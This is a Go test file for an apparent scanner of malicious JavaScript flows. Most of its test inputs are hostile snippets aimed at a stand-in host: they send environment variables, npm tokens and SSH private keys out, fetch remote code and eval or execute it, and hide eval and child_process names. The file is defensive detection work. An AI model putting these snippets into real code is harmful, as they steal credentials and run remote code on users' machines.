package content

import (
	"testing"
)

func TestJavaScriptFlows(t *testing.T) {
	for text, want := range map[string]string{
		`const https = require('https'); const r = https.request({hostname:'a.example'}); r.write(JSON.stringify(process.env)); r.end()`: "the whole environment -> network",
		`import {request as q} from "node:https"; q("https://a.example/?t=" + process.env.NPM_TOKEN)`:                                    "environment, credentials -> network",
		`const fs=require('fs'),p=require('path'),os=require('os');
		 const k=fs.readFileSync(p.join(os.homedir(),'.ssh','id_rsa'),'utf8'); fetch('https://a.example',{method:'POST',body:k})`: "reads files, reads where credentials are, credentials -> network",
		`eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvJykgLy8gaGVsbG8=','base64').toString())`: "decodes, decodes text of its own -> runs text as code",
		`const e = globalThis['ev'+'al']; e(atob(x))`:                                       "decodes -> runs text as code; mark hidden name",
		`https.get('x')`: "",
		`const h=require('https'); let body=''; h.get('https://a.example/x.js', res => { res.on('data', c => body += c); res.on('end', () => eval(body)) })`: "network -> runs text as code",
		`fetch('https://a.example').then(r => r.text()).then(t => new Function(t)())`:                                                                        "network -> runs text as code",
		`const fs=require('fs'),h=require('https'),{spawn}=require('child_process');
		 const out='/tmp/x'; const f=fs.createWriteStream(out); h.get('https://a.example/x', r => { r.pipe(f); f.on('finish', () => spawn(out)) })`: "network -> writes files; writes files, network -> processes",
		`async function get(u){ const r = await fetch(u); return Buffer.from(await r.arrayBuffer()) }
		 async function main(){ const d = await get('https://a.example'); const to = require('path').join(__dirname,'bin'); require('fs').writeFileSync(to, d); require('child_process').execFileSync(to) }`: "network -> writes files; writes files, network -> processes",
		`send(collect()); function collect(){ return Object.entries(process.env) } function send(d){ const x = new XMLHttpRequest(); x.open('POST', u); x.send(d) }`: "the whole environment -> network",
		`const os=require("os"),dns=require("dns"); dns.lookup(os.hostname()+".a.example",()=>{})`:                                                                   "host and user names -> network, contacts an unusual host",
		`function r(u){return new Promise((resolve)=>{require('http').get(u,s=>{let d="";s.on("data",c=>d+=c);s.on("end",()=>resolve(d))})})}
		 r("http://a.example").then(d=>vm.runInThisContext(d)); const vm=require("vm")`: "network -> runs text as code",
		`const {execSync: run} = require('child_process'); run('ls ' + dir)`:                                                                             "",
		`import x from 'axios'; x.post('https://a.example', {...process.env})`:                                                                           "the whole environment -> network",
		`const a = process.env.HOME; spawn('ls', [a])`:                                                                                                   "",
		`for (const n of ['.ssh/id_rsa','.npmrc']) { const b = require('fs').readFileSync(require('os').homedir()+'/'+n); require('axios').post(u, b) }`: "reads files, reads where credentials are, credentials -> network",
		`const t: string = process.env.GITHUB_TOKEN as string`:                                                                                           "",
		`(0, _https.request)(opts, cb)`:                                                                                                                  "",
		"const cp = require('child_' + 'process'); cp.exec(`curl -d ${process.env.NPM_TOKEN} https://a.example`)":                                        "environment, credentials -> processes; mark hidden name",
	} {
		f := new(facts)
		readJavaScript(source{"a.ts", text, 1}, f)
		if got := flowsOf(f); got != want {
			t.Errorf("%s\ngot  %q\nwant %q", text, got, want)
		}
	}
}

func TestJavaScriptTokens(t *testing.T) {
	for text, want := range map[string]int{
		"a / b / c":                            5,
		"x = /[/]'/g.test(y)":                  8,
		"if (a) /b'/.exec(c)":                  10,
		"`a${b + `c${d}`}e` ;":                 8,
		"f(a) / 2; '//'":                       8,
		"'unclosed\nb":                         2,
		"a = b\n/* x */ ++c":                   5,
		"({}) / 1":                             6,
		"\ufeff#!/usr/bin/env node\nfoo //x\n": 1,
	} {
		l := jsLexer{text: text}
		l.fill(1000, new(facts))
		if len(l.tokens) != want {
			t.Errorf("%q: %d tokens, want %d", text, len(l.tokens), want)
		}
	}
}

func FuzzJavaScript(f *testing.F) {
	for _, seed := range []string{
		`const {exec: e} = require('child_process'); e(` + "`id ${x}`" + `)`,
		`import a, {b as c} from "./b.js"; export * from './c'; export default class A extends B { static #x = 1; get y() { return this.#x } }`,
		`!function(e,t){"use strict";var n=e?t/2:/x[/]'/g;for(const{a:[i],...r}of n)r&&i}(a,b)`,
		"var _0x1a2b=['\\x68\\x74'];(function(a,b){while(--b){a.push(a.shift())}}(_0x1a2b,0x1f));",
		"a = `x${`y${z}`}`; ({[k]: v = 1, async *m() {}}) => {}",
		"enum X { A = 'a' } type Y<T> = T extends {a: infer U} ? U : never; let z = <T,>(a: T): T => a as unknown as T;",
		"new Promise((r, j) => require('https').get(u, s => s.on('data', d => r(eval(d)))))",
		"return <div className='a'>it's {x} </div>",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		fs := new(facts)
		readJavaScript(source{"a.ts", text, 1}, fs)
		lines := 1
		for i := range text {
			if text[i] == '\n' {
				lines++
			}
		}
		for _, s := range fs.sites {
			if s.line < 1 || s.line > lines || len(s.says) > maxSnippet+3 {
				t.Fatalf("line %d of %d: %q", s.line, lines, s.says)
			}
		}
	})
}

func TestRunOf(t *testing.T) {
	for _, c := range []struct {
		text string
		want int
	}{{"", -1}, {"aaa", 0}, {"baaa", 1}, {"aabaaa", 3}, {"aabaabaa", -1}, {"bbbbaaaab", 4}} {
		if got := runOf(c.text, 0, 'a', 3); got != c.want {
			t.Errorf("%q: %d, want %d", c.text, got, c.want)
		}
	}
	if got := runOf("aaaabaaa", 2, 'a', 3); got != 5 {
		t.Errorf("from an offset: %d, want 5", got)
	}
}
